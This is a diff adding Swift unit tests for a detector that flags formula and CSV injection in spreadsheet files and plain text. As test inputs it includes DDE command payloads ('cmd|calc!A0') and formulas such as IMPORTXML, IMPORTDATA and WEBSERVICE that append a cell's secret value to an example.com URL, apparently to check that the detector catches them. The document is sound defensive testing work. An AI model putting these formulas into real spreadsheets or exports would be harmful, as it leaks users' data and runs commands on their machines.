@@ -47,4 +47,30 @@ struct FormulaTests {
         #expect(!TextActiveContent.findings(in: Array("- cmd|' /C calc'!A0\n".utf8)).isEmpty)
         #expect(!TextActiveContent.findings(in: Array("@x | 'calc'\n".utf8)).isEmpty)
     }
+
+    /// Re-attack 15b: Google Sheets and LibreOffice fetchers, fetching calls after the first operand in plain text,
+    /// and prose that only looks like DDE or an external reference.
+    @Test func fetchersAnywhereAndProseShapes() {
+        for formula in [
+            "IMPORTXML(\"http://e.example/\",\"//a\")", "_xlfn.importdata(A1)", "IMPORTHTML(A1,\"table\",1)", "ImportFeed(A1)",
+            "IMPORTRANGE(A1,\"S!A1\")",
+        ] {
+            #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+        }
+        for csv in ["a,b\nsecret,\"=IMPORTXML(CONCAT(\"\"http://e.example/?\"\",A2),\"\"//a\"\")\"\n", "x,=IMPORTDATA(\"http://e.example/\"&A1)\n"] {
+            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
+        }
+        for text in [
+            "total\n- WEBSERVICE(\"http://e.example/?\"&A1)\n", "total\n+0+WEBSERVICE(\"http://e.example/?\"&A1)\n", "@a & IMPORTXML(A1,\"//a\")\n",
+            "- 1+IMAGE(\"http://e.example/t.png\")\n", "- x*RTD(\"a\",,\"b\")\n", "- notes cmd|calc!A0\n", "- x [book.xlsx]Sheet1!A1\n",
+        ] {
+            #expect(!TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text)")
+        }
+        for text in [
+            "# Usage\n\n- echo 'a' | 'tr' a-z A-Z\n- [x]Done! merged\n", "- [ ]Todo! later\n", "- a | b\n", "- see image(s) later\n",
+            "- we call(x) then exec(y)\n",
+        ] {
+            #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
+        }
+    }
 }
